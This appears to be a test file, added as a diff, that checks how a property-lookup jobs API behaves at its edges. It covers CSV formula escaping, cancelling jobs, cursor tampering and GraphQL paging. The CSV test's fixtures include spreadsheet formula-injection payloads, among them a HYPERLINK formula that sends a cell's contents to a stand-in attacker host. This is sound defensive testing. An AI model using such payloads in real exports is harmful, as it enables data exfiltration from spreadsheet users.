@@ -1,0 +1,101 @@
+// Lookup jobs' faces under a hostile review: the answers a careful client or an attacker gets at the edges.
+// CSV results escape spreadsheet formulas; a bodiless DELETE sent with content-type: application/json
+// cancels; a list cursor that names none of the account's jobs is bad_param (REST and GraphQL), not an
+// empty page that reads as the end; a bad page argument inside createLookupJob's selection keeps the
+// made job's id (else a retry makes a second job); a results cursor past the job's items is bad_param.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parseCsvRows } from '../../src/contract/job-input.js';
+import { JOB_CSV_COLUMNS } from '../../src/contract/jobs.js';
+import { csvRow } from '../../src/rest/routes/jobs.js';
+import { postGql } from '../graphql/client.js';
+import { startTestService, type TestService } from '../helpers/service.js';
+
+const JOBS = '/v1/portal/jobs';
+
+describe('CSV results and spreadsheet formulas', () => {
+  it("a text cell starting with = + - @ tab or CR gets a leading '; numbers (a negative longitude) stay as they are", () => {
+    const data = { zpid: '1', address: '=HYPERLINK("http://evil.example/?x="&A1,"home")', streetAddress: '+1 Main St', city: '-2+3', county: '@SUM(A1)', neighborhood: '\t=1', longitude: -122.41, latitude: 37.7 };
+    const line = JSON.stringify({ index: 0, ok: true, data, meta: { credits: 1, cached: false } });
+    const [row] = parseCsvRows(csvRow(line));
+    const cell = (name: string) => row![JOB_CSV_COLUMNS.indexOf(name)];
+    expect(cell('address')).toBe(`'${data.address}`);
+    expect(cell('streetAddress')).toBe("'+1 Main St");
+    expect(cell('city')).toBe("'-2+3");
+    expect(cell('county')).toBe("'@SUM(A1)");
+    expect(cell('neighborhood')).toBe("'\t=1");
+    expect(cell('longitude')).toBe('-122.41');
+    expect(cell('zpid')).toBe('1');
+    // An error's message is text too.
+    const [failed] = parseCsvRows(csvRow(JSON.stringify({ index: 1, ok: false, error: { code: 'bad_param', message: '=cmd' } })));
+    expect(failed![JOB_CSV_COLUMNS.indexOf('error_message')]).toBe("'=cmd");
+  });
+});
+
+describe('job routes at the edges', () => {
+  let svc: TestService;
+  beforeAll(async () => {
+    svc = await startTestService({ inProcess: true });
+    await svc.app.core.background.startWorkers();
+  });
+  afterAll(() => svc?.close());
+
+  const send = async (method: string, path: string, opts: { key?: string; body?: string; type?: string } = {}) => {
+    const res = await svc.fetch(svc.url + path, {
+      method,
+      headers: { 'x-api-key': opts.key ?? svc.keys.free!, ...(opts.type ? { 'content-type': opts.type } : {}) },
+      ...(opts.body === undefined ? {} : { body: opts.body }),
+    });
+    return { status: res.status, body: (await res.json()) as any };
+  };
+  const create = async (key?: string) => (await send('POST', JOBS, { body: JSON.stringify({ items: [{ zpid: '114303858' }] }), type: 'application/json', ...(key ? { key } : {}) })).body.data.id as string;
+
+  it('DELETE sent with content-type: application/json and no body cancels (clients that set it on every request)', async () => {
+    const id = await create();
+    const r = await send('DELETE', `${JOBS}/${id}`, { type: 'application/json' });
+    expect(r.status).toBe(200);
+    expect(r.body.data.id).toBe(id);
+    expect((await send('DELETE', `${JOBS}/nope`, { type: 'application/json' })).body.error.code).toBe('not_found');
+  });
+
+  it("a list cursor naming none of the account's jobs is 400 bad_param, over REST and GraphQL; a real one pages", async () => {
+    const mine = await create();
+    await create();
+    const theirs = await create(svc.keys.paid!);
+    for (const cursor of ['job_tampered', encodeURIComponent(theirs), '%00', '']) {
+      const r = await send('GET', `${JOBS}?cursor=${cursor}`);
+      expect(r.status, cursor).toBe(400);
+      expect(r.body.error).toMatchObject({ code: 'bad_param', details: { param: 'cursor' } });
+    }
+    for (const after of ['job_tampered', theirs, '']) {
+      const r = await postGql(svc, { query: 'query($after: String) { jobs(after: $after) { endCursor } }', variables: { after } });
+      expect(r.body.errors[0].extensions, after).toMatchObject({ code: 'bad_param', details: { param: 'after' } });
+    }
+    const first = await send('GET', `${JOBS}?limit=1`);
+    expect(first.body.meta.next_cursor).not.toBeNull();
+    const next = await send('GET', `${JOBS}?limit=1&cursor=${first.body.meta.next_cursor}`);
+    expect(next.status).toBe(200);
+    expect(next.body.data[0].id).toBe(mine);
+  });
+
+  it("a bad page argument in createLookupJob's selection: the error, and the job's id (results null)", async () => {
+    const before = (await send('GET', `${JOBS}?limit=100`)).body.data.length;
+    const r = await postGql(svc, { query: 'mutation { createLookupJob(items: [{ zpid: "114303858" }]) { id count results(first: 0) { endCursor } } }' });
+    expect(r.body.errors[0].extensions).toMatchObject({ code: 'bad_param', details: { param: 'first' } });
+    expect(r.body.data.createLookupJob).toMatchObject({ id: expect.stringMatching(/^job_/), count: 1, results: null });
+    const list = (await send('GET', `${JOBS}?limit=100`)).body.data;
+    expect(list.length).toBe(before + 1);
+    expect(list[0].id).toBe(r.body.data.createLookupJob.id);
+  });
+
+  it("a results cursor past the job's last item is bad_param; the last item's index is a cursor (an empty last page)", async () => {
+    const id = await create();
+    const page = (after: string) => postGql(svc, { query: 'query($id: ID!, $after: String) { job(id: $id) { results(after: $after) { endCursor hasNextPage } } }', variables: { id, after } });
+    for (const after of ['1', '999999999']) {
+      const r = await page(after);
+      expect(r.body.errors[0].extensions, after).toMatchObject({ code: 'bad_param', details: { param: 'after' } });
+    }
+    const last = await page('0');
+    expect(last.body.errors).toBeUndefined();
+    expect(last.body.data.job.results).toEqual({ endCursor: '0', hasNextPage: false });
+  });
+});
